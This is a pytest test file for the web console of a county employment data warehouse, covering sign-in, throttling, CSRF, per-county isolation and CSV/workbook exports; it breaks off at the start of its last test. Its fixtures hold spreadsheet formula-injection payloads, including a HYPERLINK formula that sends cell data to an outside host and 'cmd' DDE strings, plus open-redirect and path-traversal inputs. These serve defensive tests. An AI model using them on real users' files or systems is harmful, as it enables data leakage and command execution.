"""The console: who gets in, for how long, and that it adds nothing to what a login may do."""

from __future__ import annotations

import asyncio
import base64
import csv
import html
import io
import re
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path
from urllib.parse import quote

import httpx
import openpyxl
import psycopg
import pytest
import uvicorn
from axe_playwright_python.sync_playwright import Axe
from fastapi import FastAPI
from playwright.sync_api import Browser as ChromiumBrowser
from playwright.sync_api import BrowserContext, Page, expect
from tests.conftest import fresh_warehouse
from tests.kit.console import Browser, Clock, browser_of, database_variables, links_of, served
from tests.kit.nights import Nights, certify, insert, publish, start_build
from tests.kit.pictures import chromium, sign_in
from tests.kit.publications import division, indicator, store
from tests.kit.stages import COUNTIES, Stages

from employment_warehouse import publication, report, settings
from employment_warehouse.alert_kinds import alert_kinds
from employment_warehouse.console import mart_files
from employment_warehouse.console.console_names import STEPS
from employment_warehouse.console.sessions import IDLE_SECONDS, LONGEST_SECONDS
from employment_warehouse.contract.divisions import divisions
from employment_warehouse.database import OWN_LOGIN, DatabaseRefusal, connect, scram, seed_tables, signed_in
from employment_warehouse.database.connections import address
from employment_warehouse.database.embedded import Server
from employment_warehouse.database.listening import free_port
from employment_warehouse.report import products
from employment_warehouse.runtime import users

COUNTY = "county_532528"
LONGEST_MART = "/marts/cross_feed_reconciliation"


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def console(warehouse: psycopg.Connection, monkeypatch: pytest.MonkeyPatch, clock: Clock) -> Iterator[FastAPI]:
    for name, value in database_variables().items():
        monkeypatch.setenv(name, value)
    yield served(clock)


def test_a_person_signs_in_with_the_login_of_the_database(console: FastAPI) -> None:
    browser = Browser(console)
    assert browser.get("/publications").headers["location"] == "/sign-in?next=/publications"
    at = address(OWN_LOGIN)
    answer = browser.sign_in(at.user, at.password)
    assert (answer.status_code, answer.headers["location"]) == (303, "/")
    cookie = answer.headers["set-cookie"].lower()
    assert all(word in cookie for word in ("httponly", "samesite=strict"))
    assert at.password not in answer.text + cookie
    assert at.user in browser.get("/publications").text


def field(shown: str, name: str) -> str:
    """The value of a hidden field of the form on a page."""
    [value] = re.findall(rf'<main.*name="{name}" value="([^"]*)"', shown, re.DOTALL)
    return html.unescape(value)


def test_a_link_leads_to_its_list_after_the_sign_in_also_after_a_wrong_password(console: FastAPI) -> None:
    """As an alert has it, with its filter; a link that leads elsewhere does not."""
    at = address(OWN_LOGIN)
    for link, arrived in (
        ("/deliveries?unit=532528&status=held", "/deliveries?unit=532528&status=held"),
        ("/acts?login=%E6%9C%88%E6%8A%A5%26x", "/acts?login=%E6%9C%88%E6%8A%A5%26x"),
        ("//elsewhere.cn/?a=b", "/"),
    ):
        browser = Browser(console)
        form = f"/sign-in?next={quote(link)}" if link.startswith("//") else browser.get(link).headers["location"]
        shown = browser.get(form).text
        for password, status in (("wrong", 403), (at.password, 303)):
            given = {name: field(shown, name) for name in ("token", "next")}
            answer = browser.client.post("/sign-in", data={"login": at.user, "password": password, **given})
            assert answer.status_code == status
            shown = answer.text
        assert answer.headers["location"] == arrived
        assert browser.get(arrived).status_code in {200, 303}


def test_a_form_that_is_sent_after_the_session_says_that_nothing_was_changed(console: FastAPI, clock: Clock) -> None:
    """And after the sign-in its page is there to fill it in again."""
    browser, at = browser_of(OWN_LOGIN, console), address(OWN_LOGIN)
    [session] = console.state.sessions._sessions.values()
    clock.now += IDLE_SECONDS + 1
    origin = {"referer": "https://console.example.cn/settings?from=menu"}
    sent = browser.client.post("/settings/target", data={"reason": "typed", "token": session.token}, headers=origin)
    shown = browser.get(sent.headers["location"]).text
    assert "没有提交，没有作任何改动" in shown
    given = {name: field(shown, name) for name in ("token", "next")}
    answer = browser.client.post("/sign-in", data={"login": at.user, "password": at.password, **given})
    assert answer.headers["location"] == "/settings?from=menu"
    assert browser.get(answer.headers["location"]).status_code == 200


def test_programs_and_the_administrator_do_not_sign_in(console: FastAPI, warehouse: psycopg.Connection) -> None:
    for login, password in (
        ("wh_publisher", address("wh_publisher").password),
        ("postgres", warehouse.info.password),
    ):
        answer = Browser(console).sign_in(login, password)
        assert (answer.status_code, "程序和管理员" in answer.text) == (403, True)


def test_after_five_wrong_passwords_a_login_waits(console: FastAPI) -> None:
    at, browser = address(OWN_LOGIN), Browser(console)
    for _ in range(5):
        answer = browser.sign_in(at.user, "wrong")
        assert (answer.status_code, "登录名或口令不正确" in answer.text) == (403, True)
    assert browser.sign_in(at.user, at.password).status_code == 429
    other = address(COUNTY)
    assert browser.sign_in(other.user, other.password).status_code == 303


def test_after_twenty_failures_an_address_waits(console: FastAPI) -> None:
    browser, at = Browser(console), address(COUNTY)
    for number in range(20):
        assert browser.sign_in(f"nobody_{number}", "wrong").status_code == 403
    assert browser.sign_in(at.user, at.password).status_code == 429


def test_of_guesses_that_are_made_at_once_no_more_are_tried(console: FastAPI) -> None:
    """Each is counted before the database is asked, as it may fail."""
    login = address(COUNTY).user

    form = Browser(console)
    given = {"token": field(form.get("/sign-in").text, "token"), "login": login}
    cookies = dict(form.client.cookies)

    async def guess(number: int) -> int:
        transport = httpx.ASGITransport(app=console)
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver", cookies=cookies) as client:
            return (await client.post("/sign-in", data=given | {"password": f"wrong {number}"})).status_code

    async def guess_twenty_times() -> list[int]:
        return await asyncio.gather(*map(guess, range(20)))

    assert sorted(asyncio.run(guess_twenty_times())) == [403] * 5 + [429] * 15


def test_a_login_whose_verifier_asks_for_endless_hashing_is_refused_before_any(
    console: FastAPI, warehouse_server: Server
) -> None:
    """How often a password is hashed is part of its verifier, and that of one's own login is everyone's to set. libpq,
    which would hash as often as that, is given keys: for the pages of a session as well."""
    asked, key = scram.MOST_ITERATIONS + 1, base64.b64encode(bytes(32)).decode()
    try:
        password = users.add("new_costly", "county", "532528")
        before, at = Browser(console), replace(address(OWN_LOGIN), user="new_costly", password=password)
        assert before.sign_in(at.user, password).status_code == 303
        [session] = console.state.sessions._sessions.values()
        assert (session.address.password, session.address.keys is None) == ("", False)
        with signed_in(at), connect(OWN_LOGIN) as connection:
            connection.read_only = False
            connection.execute(f"alter role current_user password 'SCRAM-SHA-256${asked}:c2FsdA==${key}:{key}'")
        answer = Browser(console).sign_in(at.user, password)
        assert (answer.status_code, "计算次数过多" in answer.text) == (403, True)
        assert before.get("/publications").headers["location"].startswith("/sign-in")
    finally:
        with warehouse_server.connect_superuser() as connection:
            connection.execute("drop role if exists new_costly")
            connection.execute("delete from ops.reader_county where login = 'new_costly'")


@pytest.mark.parametrize(
    ("step", "longest"), [(IDLE_SECONDS + 1, IDLE_SECONDS + 1), (IDLE_SECONDS - 1, LONGEST_SECONDS)],
    ids=["idle", "too long"],
)  # fmt: skip
def test_a_session_ends(console: FastAPI, clock: Clock, step: int, longest: int) -> None:
    browser, began = browser_of(OWN_LOGIN, console), clock.now
    while clock.now - began + step < longest:
        clock.now += step
        assert browser.get("/publications").status_code == 200
    clock.now += step
    assert browser.get("/publications").status_code == 303


def test_signing_out_closes_the_session_and_another_cookie_opens_nothing(console: FastAPI) -> None:
    browser, other = browser_of(OWN_LOGIN, console), browser_of(COUNTY, console)
    kept = dict(browser.client.cookies)
    [session] = [each for each in console.state.sessions._sessions.values() if each.login == address(OWN_LOGIN).user]
    for _ in range(2):  # a second time: the session has ended already
        signed_out = browser.client.post("/sign-out", data={"token": session.token})
        assert (signed_out.status_code, signed_out.headers["location"]) == (303, "/sign-in")
    again = Browser(console)
    again.client.cookies.update(kept)
    assert again.get("/publications").status_code == 303
    assert other.get("/publications").status_code == 200


@pytest.mark.parametrize("wrong", ["missing", "another's", "other site"])
def test_a_form_that_is_not_the_sessions_own_changes_nothing(
    console: FastAPI, warehouse: psycopg.Connection, wrong: str
) -> None:
    number = publish(start_build("2024-05-01"))
    browser = browser_of(OWN_LOGIN, console)
    browser_of("wh_analyst", console)
    tokens = {session.login: session.token for session in console.state.sessions._sessions.values()}
    own = tokens[address(OWN_LOGIN).user]
    token = {"missing": "", "another's": tokens[address("wh_analyst").user], "other site": own}[wrong]
    headers = {"Sec-Fetch-Site": "cross-site"} if wrong == "other site" else {}
    path, given = f"/publications/{number}/roll-back", {"reason": "not mine", "token": token}
    answer = browser.client.post(path, data=given, headers=headers)
    assert (answer.status_code, "表单已失效" in answer.text) == (403, True)
    assert warehouse.execute("select count(*) from ops.act").fetchone() == (0,)
    assert browser.client.post(path, data=given | {"token": own}).status_code == 303


def test_every_answer_has_strict_headers(console: FastAPI) -> None:
    browser = browser_of(OWN_LOGIN, console)
    for path in ("/sign-in", "/publications", "/static/console.css", "/nowhere", "/health"):
        headers = browser.get(path).headers
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
        assert (headers["x-content-type-options"], headers["cache-control"]) == ("nosniff", "no-store")


def test_no_page_has_a_script_or_style_of_its_own(console: FastAPI) -> None:
    browser = browser_of(OWN_LOGIN, console)
    for page in console.state.pages:
        text = browser.get(page.path).text
        assert not any(mark in text for mark in ("<script>", "<style", " style=", " onclick=", "javascript:"))


def test_an_operator_releases_a_held_night_and_rolls_back_in_his_own_name(
    console: FastAPI, warehouse: psycopg.Connection
) -> None:
    publish(start_build("2024-05-01"))
    held = start_build("2024-05-02")
    certify(held, failed=1)
    with pytest.raises(DatabaseRefusal):
        publication.publish_or_hold(held)
    browser = browser_of(OWN_LOGIN, console)
    offered = browser.get("/publications").text
    assert f'href="/publications/{held}/release"' in offered
    assert all(not re.search(r"WH\d{3}", text) for text in (offered, browser.get("/tonight").text))
    refused = browser.fill_in(f"/publications/{held}/release", reason="")
    assert (refused.status_code, "没有填写" in refused.text) == (422, True)
    assert browser.fill_in(f"/publications/{held}/release", reason="counted by hand").status_code == 303
    assert f"已放行并发布：第 {held} 号" in browser.get("/publications").text
    assert browser.fill_in(f"/publications/{held}/roll-back", reason="wrong month").status_code == 303
    acts = warehouse.execute(
        "select login, kind, reason from ops.act where login <> 'wh_publisher' order by act"
    ).fetchall()
    assert acts == [
        ("operator_of_tests", "release_night", "counted by hand"),
        ("operator_of_tests", "roll_back", "wrong month"),
    ]


def test_what_somebody_typed_is_shown_whole_and_what_the_program_says_in_one_language(
    console: FastAPI, nights: Nights
) -> None:
    """A reason may contain the bar that stands between the languages of the program's own texts."""
    why = "脱贫人口台账有误 | 见工单12"
    nights.deliver("labor_register", "532528", "2024-05-01", kind="file")
    [delivery] = [row[0] for row in nights.rows("select delivery_id from ops.delivery")]
    number = publish(nights.start("2024-05-01"))
    held = start_build("2024-05-02")
    certify(held, failed=1)
    with pytest.raises(DatabaseRefusal):
        publication.publish_or_hold(held)
    browser = browser_of(OWN_LOGIN, console)
    assert browser.fill_in(f"/publications/{held}/release", reason=why).status_code == 303
    back = browser.fill_in(f"/publications/{number}/roll-back", reason=why, withdraw=str(delivery))
    assert back.status_code == 303
    # Both publications are taken back, and the later one had been released.
    shown = {"/acts": 2, "/publications": 3, f"/publications/{number}": 1, f"/deliveries/{delivery}": 1}
    assert {path: browser.get(path).text.count(why) for path in shown} == shown
    [said] = re.findall(r"暂扣当晚汇总</td>.*?</tr>", browser.get("/acts").text)
    assert " | " not in said


def test_a_login_is_offered_and_may_do_only_what_the_database_grants(console: FastAPI) -> None:
    number = publish(start_build("2024-05-01"))
    county = browser_of(COUNTY, console)
    shown = county.get("/publications")
    assert (shown.status_code, "撤回…" in shown.text) == (200, False)
    [session] = console.state.sessions._sessions.values()
    given = {"reason": "I try", "token": session.token}
    answer = county.client.post(f"/publications/{number}/roll-back", data=given)
    assert (answer.status_code, "不能查看此页" in answer.text or "无权" in answer.text) == (403, True)


def walk(browser: Browser) -> dict[str, str]:
    """Every page that a login reaches from its menu, by following links; workbooks of reports, and marts as CSV."""
    seen: dict[str, str] = {}
    waiting = ["/publications", "/gates?passed=true", "/gates?passed=true&gate=1"]
    while waiting:
        path = waiting.pop(0)
        if path in seen or "language=" in path or path.endswith("rows.xlsx"):
            continue
        answer = browser.get(path)
        assert answer.status_code in {200, 303}, (path, answer.text)
        seen[path] = cells_of(answer.content) if path.endswith(".xlsx") else answer.text
        waiting += links_of(answer.text) if answer.headers.get("content-type", "").startswith("text/html") else []
    return seen


def cells_of(workbook: bytes) -> str:
    """All that the sheets of a workbook show."""
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    return "\n".join(str(row) for sheet in book for row in sheet.iter_rows(values_only=True))


REFERENCE = re.compile(r"^/marts/(dim_code|dim_date|dim_division|dim_employer|indicator)\b")
OTHERS = re.compile(r"5325(?!28|00)\d\d|个旧|建水|Gejiu|Jianshui")


def foreign(pages: dict[str, str]) -> set[str]:
    """Pages that say something of a county other than 532528."""
    return {path for path, text in pages.items() if OTHERS.search(text) and not REFERENCE.match(path)}


@pytest.fixture(scope="module")
def planted(warehouse_server: Server) -> Iterator[psycopg.Connection]:
    """A publication whose every mart has rows of every county, and the ledger as well."""
    with pytest.MonkeyPatch.context() as patch, fresh_warehouse(warehouse_server, patch) as superuser:
        for name, value in database_variables().items():
            patch.setenv(name, value)
        nights = Nights(superuser)
        for county in COUNTIES:
            nights.deliver("labor_register", county, "2024-05-01", rejected=1, kind="file", part=f"{county}-part")
        superuser.execute(
            """
            insert into vault.rejected_row (delivery_id, sheet, line, column_name, reason, key_version, sealed)
            select d.delivery_id, d.unit || '-sheet', 2, 'full_name', 'required_missing', 1, '' from ops.delivery as d;
            insert into ops.alert (level, kind, unit, title, body)
            select 'warning', 'wages_owed', c, c || '-title', c || '-body ' || repeat('labor_register', 20)
            from unnest(ops.county_codes()) as c;
            """
        )
        Stages(superuser).go_to("first")
        store(superuser, "dim_division", 1, map(division, [*COUNTIES, divisions().prefecture]))
        store(superuser, "indicator", 1, [indicator("rural_employed", "person"), indicator("hires_week", "person")])
        superuser.execute(
            "update store.report_weekly"
            " set indicator = case when indicator like '%-1' then 'rural_employed' else 'hires_week' end"
        )
        superuser.execute("update store.finding_case set waived_until = null")  # a dispatch lists what is not waived
        report.write_weekly(1)
        yield superuser


def test_a_county_sees_nothing_of_another_on_any_page(planted: psycopg.Connection) -> None:
    console = served()
    seen = walk(browser_of(COUNTY, console))
    assert {page.path for page in console.state.pages} - set(seen) == {"/acts", "/settings", "/users"}
    assert len([path for path in seen if path.endswith(".csv")]) > 60
    assert re.search("532528-", seen["/marts/fct_person_state?rows=true"])
    for kind in ("html", "xlsx"):
        assert "532528-case_key-2" in seen[f"/reports/reports/2024-05-01/weekly-1-532528/file.{kind}"]
    assert foreign(seen) == set()
    # The same search finds what others see.
    of_analyst = foreign(walk(browser_of("wh_analyst", console)))
    assert {"/tonight", "/cases", "/gates?passed=true", "/reports", "/marts/target_progress/rows.csv"} <= of_analyst


def test_a_page_that_a_county_may_not_open_shows_only_the_refusal(planted: psycopg.Connection) -> None:
    county = browser_of(COUNTY, served())
    [(other,)] = planted.execute("select delivery_id from ops.delivery where unit = '532501' limit 1").fetchall()
    for path, status in (
        ("/acts", 403), ("/users", 403), ("/settings", 403), (f"/deliveries/{other}", 404), ("/marts/nothing", 404),
        ("/reports/reports/2024-05-01/weekly-1-532501/file.html", 404),
        ("/reports/reports/2024-05-01/weekly-1/file.html", 404),
        ("/reports/secrets/keys/file.json", 404), ("/reports/..%2Fsecrets%2Fkeys/file.json", 404),
        ("/cases/one?kind=532501-case_kind-1&finding=532501-finding-1&key=532501-case_key-1", 404),
    ):  # fmt: skip
        answer = county.get(path)
        said = answer.text.partition("<main")[2]  # the language switch above repeats the address
        assert (path, answer.status_code, bool(OTHERS.search(said))) == (path, status, False)
    with connect(COUNTY) as own, pytest.raises(psycopg.Error, match="WH032"):
        own.execute("select * from ops.rejected_lines(%s)", (other,))


def test_reports_of_what_was_rolled_back_are_for_the_record_alone(console: FastAPI, nights: Nights) -> None:
    """What cannot be pinned is not a report either; who keeps the record sees that it was rolled back."""
    days = ("2024-05-01", "2024-05-02")
    for number, day in [(publish(start_build(day)), day) for day in days]:
        made = {"publication": number, "report_date": date.fromisoformat(day), "vintage": "flash"}
        products.keep("weekly", made, {".html": b"whole", "-532528.html": b"own"})
    publication.roll_back(number, [], "another county's register")
    for role, name, second in (
        ("wh_analyst", "weekly-{}", 404), (COUNTY, "weekly-{}-532528", 404), ("wh_auditor", "weekly-{}", 200),
        (OWN_LOGIN, "weekly-{}", 200),
    ):  # fmt: skip
        browser = browser_of(role, console)
        paths = [f"/reports/reports/{day}/{name.format(at)}/file.html" for at, day in enumerate(days, 1)]
        assert [browser.get(path).status_code for path in paths] == [200, second]
        listed = browser.get("/reports").text
        assert [path in listed for path in paths] == [True, second == 200]
        assert ("已撤回" in listed) == (second == 200)
        assert "最近的报告：周调度，2024-05-01" in listed


def test_cases_of_persons_reach_those_who_read_them_in_the_marts(planted: psycopg.Connection) -> None:
    """Auditors and operators read the prefecture's figures; a county's dispatch is its own and the analysts'."""
    console, folder = served(), "/reports/reports/2024-05-01"
    for role, of_prefecture, of_county in (
        ("wh_analyst", 200, 200), ("wh_auditor", 200, 404), (OWN_LOGIN, 200, 404), (COUNTY, 404, 200),
        ("caseworker_532528", 404, 200),
    ):  # fmt: skip
        browser = browser_of(role, console)
        for kind in ("html", "xlsx"):
            paths = (f"{folder}/weekly-1/file.{kind}", f"{folder}/weekly-1-532528/file.{kind}")
            answers = [browser.get(path).status_code for path in paths]
            assert (role, answers) == (role, [of_prefecture, of_county])
    whole = browser_of("wh_auditor", console).get(f"{folder}/weekly-1/file.xlsx").content
    assert "元阳县" in cells_of(whole)
    assert not re.search("case_key|township", cells_of(whole))


def test_the_rejected_lines_of_a_delivery_are_listed_without_their_content(planted: psycopg.Connection) -> None:
    county = browser_of(COUNTY, served())
    [(own,)] = planted.execute("select delivery_id from ops.delivery where unit = '532528' limit 1").fetchall()
    shown = county.get(f"/deliveries/{own}").text
    assert all(part in shown for part in ("532528-sheet", "姓名", "退回 <em>1</em>"))


def test_a_countys_download_of_its_return_workbook_is_recorded(planted: psycopg.Connection) -> None:
    console = served()
    numbers = dict(planted.execute("select unit, delivery_id from ops.delivery").fetchall())
    folder = settings.current_home().returns / "2024-05-01"
    folder.mkdir(exist_ok=True)
    for county in ("532528", "532501"):
        (folder / f"{county}.xlsx").write_bytes(county.encode())
    own, workbook = f"/deliveries/{numbers['532528']}", "/uploads/return-workbooks/2024-05-01.xlsx"
    assert workbook in browser_of(COUNTY, console).get(own).text
    assert browser_of(COUNTY, console).get(workbook).content == b"532528"
    acts = planted.execute("select login from ops.act where kind = 'take_workbook'").fetchall()
    assert set(acts) == {("county_532528",)}
    assert workbook not in browser_of(OWN_LOGIN, console).get(own).text


def test_every_step_that_an_alert_names_has_a_name() -> None:
    assert {kind.step for kind in alert_kinds().values() if kind.step} <= STEPS.keys()


def test_an_analyst_downloads_a_mart(planted: psycopg.Connection) -> None:
    analyst = browser_of("wh_analyst", served())
    shown = analyst.get("/marts/target_progress").text
    assert all(part in shown for part in ("progress_rate", "headline_series", "下载 CSV"))
    rows = list(csv.reader(analyst.get("/marts/target_progress/rows.csv").text.removeprefix("\ufeff").splitlines()))
    with connect("wh_analyst") as own:
        wanted = own.execute("select county_code, target_code from marts.target_progress").fetchall()
    assert sorted((row[1], row[2]) for row in rows[1:]) == sorted(wanted)
    book = openpyxl.load_workbook(io.BytesIO(analyst.get("/marts/target_progress/rows.xlsx").content))
    assert [len(list(sheet.rows)) for sheet in book] == [len(rows)]
    assert "target_progress" in analyst.get("/marts?words=target_prog").text


FORMULAS = (
    '=HYPERLINK("http://e.cn/?"&A2,"查看")', "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1",
    "\r=1+1", "\n工程", "　＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
)  # fmt: skip
TEXTS = ("元阳县红河谷道路", "-5", "+12.50", "1=1", "'=1+1")


@pytest.fixture
def projects(warehouse: psycopg.Connection, nights: Nights) -> dict[str, str]:
    """Relief projects, by number, with names that a spreadsheet would take for formulas, and with others."""
    names = {f"P{at:02}": name for at, name in enumerate((*FORMULAS, *TEXTS))}
    build = start_build("2024-05-01")
    rows = [
        {
            "project_no": number, "county_code": "532528", "project_name": name, "relief_funds": "-5.50",
            "planned_workers": 40, "started_on": "2024-03-01", "planned_completion_on": "1899-12-01",
            "from_build": build,
        }
        for number, name in names.items()
    ]  # fmt: skip
    insert(warehouse, "store", "dim_relief_project", rows)
    publish(build)
    return names


def test_no_text_of_a_csv_is_a_formula_and_figures_stay_as_they_are(console: FastAPI, projects: dict[str, str]) -> None:
    text = browser_of("wh_analyst", console).get("/marts/dim_relief_project/rows.csv").content.decode("utf-8-sig")
    rows = {row["project_no"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert {number: row["project_name"] for number, row in rows.items()} == {
        number: f"'{name}" if name in FORMULAS else name for number, name in projects.items()
    }
    assert {(row["relief_funds"], row["started_on"], row["township_code"]) for row in rows.values()} == {
        ("-5.50", "2024-03-01", "")
    }


def test_a_workbook_of_a_mart_has_numbers_days_and_quoted_texts(console: FastAPI, projects: dict[str, str]) -> None:
    content = browser_of("wh_analyst", console).get("/marts/dim_relief_project/rows.xlsx").content
    heads, *rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()
    at = {cell.value: cell.column - 1 for cell in heads}
    names = {row[at["project_no"]].value: row[at["project_name"]] for row in rows}
    assert {number: cell.value for number, cell in names.items()} == {
        number: name.replace("\r", "_x000D_") for number, name in projects.items()
    }
    assert {(cell.data_type, cell.quotePrefix) for cell in names.values()} == {("s", True)}
    for row in rows:
        funds, began = row[at["relief_funds"]], row[at["started_on"]]
        assert (funds.value, funds.data_type, row[at["planned_workers"]].value) == (-5.5, "n", 40)
        assert (str(began.value), began.is_date, began.number_format) == ("2024-03-01 00:00:00", True, "yyyy-mm-dd")
        assert (row[at["planned_completion_on"]].value, row[at["township_code"]].value) == ("1899-12-01", None)


def test_a_mart_that_a_sheet_does_not_hold_is_refused(
    console: FastAPI, projects: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    analyst = browser_of("wh_analyst", console)
    for rows, status in ((len(projects), 200), (len(projects) - 1, 409)):
        monkeypatch.setattr(mart_files, "SHEET_ROWS", rows)
        answer = analyst.get("/marts/dim_relief_project/rows.xlsx")
        assert answer.status_code == status
    assert all(part in answer.text for part in (f"超过 {len(projects) - 1} 行", "请下载 CSV"))


def test_a_case_worker_explains_only_cases_of_the_county(planted: psycopg.Connection) -> None:
    console = served()
    worker, county = browser_of("caseworker_532528", console), browser_of(COUNTY, console)
    link = next(link for link in links_of(worker.get("/cases").text) if link.startswith("/cases/one"))
    assert worker.fill_in(link, explanation="works since Monday").status_code == 303
    assert "works since Monday" in county.get(link).text
    assert 'name="explanation"' not in county.get(link).text
    refused = worker.fill_in(link, link.replace("532528", "532501"), explanation="not mine")
    assert (refused.status_code, "没有这样的未结事项" in refused.text) == (409, True)
    numbered = worker.fill_in(link, explanation="ask 13887312345")
    assert (numbered.status_code, "号码" in numbered.text) == (409, True)


def test_an_operator_acknowledges_an_alert_once(planted: psycopg.Connection) -> None:
    operator = browser_of(OWN_LOGIN, served())
    [(alert,)] = planted.execute("select min(alert_id) from ops.alert").fetchall()
    assert operator.fill_in("/alerts", f"/alerts/{alert}", note="called them").status_code == 303
    again = operator.fill_in("/alerts", f"/alerts/{alert}", note="")
    assert (again.status_code, "已确认" in again.text) == (409, True)
    acts = operator.get("/acts?kind=acknowledge_alert").text
    assert all(part in acts for part in ("operator_of_tests", "called them"))
    planted.execute("update ops.alert set title = title || '!' where alert_id = %s", (alert,))
    assert planted.execute("select acknowledged_at from ops.alert where alert_id = %s", (alert,)).fetchone() == (None,)


def test_a_file_that_was_not_ingested_is_not_the_countys_fault(console: FastAPI, nights: Nights) -> None:
    nights.connection.execute(
        """
        insert into ops.due select 'labor_register', unit, '2024-05-01', '2024-05-01 20:00+08'
        from unnest(array['532528', '532503']) as unit;
        insert into ops.intake_failure (night_on, feed, unit, path, reason)
        values ('2024-05-01', 'labor_register', '532528', 'a.csv', 'the disk was full');
        """
    )
    start_build("2024-05-01")
    page = browser_of(OWN_LOGIN, console).get("/tonight").text
    states = re.findall(r'aria-label="(未报|入库失败（系统原因）)">', page)
    assert sorted(states) == ["入库失败（系统原因）", "未报"]


def test_readers_are_told_of_what_no_county_has_sent(console: FastAPI, nights: Nights) -> None:
    """The platform was not read; the row that counts the counties once more is not one more."""
    build = start_build("2024-05-01")
    states = (
        ("gig_orders", "532500", "missing"),
        ("employment", "532528", "missing"),
        ("employment", "532500", "missing"),
    )
    insert(nights.connection, "store", "feed_timeliness", (
        {"feed": feed, "county_code": unit, "status": status, "from_build": build, "units_due": 1, "units_reported": 0}
        for feed, unit, status in states
    ))  # fmt: skip
    publish(build)
    page = browser_of("wh_analyst", console).get("/tonight").text
    assert "2 份" in page.split('class="lead"')[1].split("</p>")[0]
    assert "零工订单" in page.split("项目、批次和平台")[-1]


def test_an_operator_releases_a_held_delivery(console: FastAPI, nights: Nights) -> None:
    number = nights.deliver("labor_register", "532528", "2024-05-01", kind="file")
    build = start_build("2024-05-01")
    nights.connection.execute(
        "update ops.delivery set status = 'held', reason = 'few | few' where build = %s", (build,)
    )
    operator = browser_of(OWN_LOGIN, console)
    assert f"/deliveries/{number}" in operator.get("/tonight").text
    done = operator.fill_in(f"/deliveries/{number}", f"/deliveries/{number}/release", reason="they moved")
    assert done.status_code == 303
    assert nights.scalar("select status from ops.delivery where delivery_id = %s", number) == "landed"


def test_an_operator_adds_a_user_who_signs_in_until_disabled(console: FastAPI, warehouse_server: Server) -> None:
    operator = browser_of(OWN_LOGIN, console)
    try:
        made = operator.fill_in("/users", login="new_console", role="county", county="532528")
        password = re.search(r"<code>([^<]+)</code>", made.text)
        assert password
        county = Browser(console)
        assert county.sign_in("new_console", html.unescape(password[1])).status_code == 303
        assert county.get("/publications").status_code == 200
        assert operator.fill_in("/users", "/users/new_console/disable").status_code == 303
        assert county.get("/publications").status_code == 303
        short = operator.fill_in("/users", login="new console", role="county", county="532528")
        assert short.status_code == 409
    finally:
        with warehouse_server.connect_superuser() as connection:
            connection.execute("drop role if exists new_console")
            connection.execute("delete from ops.reader_county where login = 'new_console'")


def test_an_operator_changes_a_target_and_a_setting_from_a_later_date(console: FastAPI, nights: Nights) -> None:
    publish(start_build("2024-05-01"))
    operator = browser_of(OWN_LOGIN, console)
    target = {"county": "532528", "target": "rural_employed", "value": "90001", "reason": "document 7"}
    used = operator.fill_in("/settings", "/settings/target", first="2024-05-01", **target)
    assert (used.status_code, "晚于 2024-05-01" in used.text) == (409, True)
    # 151,200 persons are 15 × 10,000.
    small = operator.fill_in("/settings", "/settings/target", first="2024-06-01", **(target | {"value": "15"}))
    assert (small.status_code, "不以万为单位" in small.text) == (409, True)
    assert operator.fill_in("/settings", "/settings/target", first="2024-06-01", **target).status_code == 303
    setting = {"name": "gig_reference_days", "reason": "the week of 2024"}
    words = operator.fill_in("/settings", "/settings/setting", first="2024-06-01", value="a week", **setting)
    assert words.status_code == 409
    assert (
        operator.fill_in("/settings", "/settings/setting", first="2024-06-01", value="14", **setting).status_code == 303
    )
    seed_tables.load()  # the files do not take it back
    values = "select target_value from seeds.target where (county_code, target_code) = ('532528', 'rural_employed')"
    assert nights.scalar(f"{values} order by valid_from desc limit 1") == 90001
    in_force = [
        nights.scalar("select ops.setting('gig_reference_days', %s)", day) for day in ("2024-05-31", "2024-06-01")
    ]
    assert in_force == ["7", "14"]
    assert "90,001" in operator.get("/settings?on=2024-05-31").text
    acts = operator.get("/acts").text
    assert all(part in acts for part in ("document 7", "the week of 2024", "operator_of_tests"))
    start_build("2024-05-02")
    busy = operator.fill_in("/settings", "/settings/target", first="2024-07-01", **target)
    assert (busy.status_code, "正在进行" in busy.text) == (409, True)


@pytest.fixture(scope="module")
def url(planted: psycopg.Connection) -> Iterator[str]:
    """The console, served on this machine."""
    server = uvicorn.Server(uvicorn.Config(served(), port=free_port(0), log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{server.config.port}"
    server.should_exit = True
    thread.join()


@pytest.fixture(scope="module")
def started_browser() -> Iterator[ChromiumBrowser]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def person(started_browser: ChromiumBrowser, url: str) -> Iterator[Callable[[str, int], Page]]:
    """Somebody at a screen of some width, who has signed in."""
    contexts: list[BrowserContext] = []
    asked: list[str] = []

    def sit_down(role: str, width: int = 1280) -> Page:
        context = started_browser.new_context(viewport={"width": width, "height": 900})
        contexts.append(context)
        context.on("request", lambda wanted: asked.append(wanted.url))
        page = context.new_page()
        sign_in(page, url, address(role).user, address(role).password)
        return page

    yield sit_down
    for context in contexts:
        context.close()
    assert [wanted for wanted in asked if not wanted.startswith((url, "data:"))] == []


Person = Callable[..., Page]


def menu_of(page: Page) -> list[str]:
    return [str(link.get_attribute("href")) for link in page.locator("nav a").all()]


def serious(page: Page) -> list[str]:
    """What axe finds that keeps somebody from using the page."""
    found = Axe().run(page).response["violations"]
    return [
        f"{each['id']}: {each['nodes'][0]['html'][:90]}" for each in found if each["impact"] in {"serious", "critical"}
    ]


def of_a_case(page: Page, url: str) -> list[str]:
    """The pages of the case that is listed last, and of its persons."""
    page.goto(f"{url}/cases")
    links = [str(link.get_attribute("href")) for link in page.locator("main tbody a").all()][-1:]
    return [*links, *(link.replace("/one", "/persons") for link in links)]


@pytest.mark.browser
@pytest.mark.parametrize("role", [OWN_LOGIN, "caseworker_532528", "wh_analyst"])
def test_every_page_is_usable_by_everyone_and_fits_a_phone(person: Person, url: str, role: str) -> None:
    wide, narrow = person(role), person(role, 390)
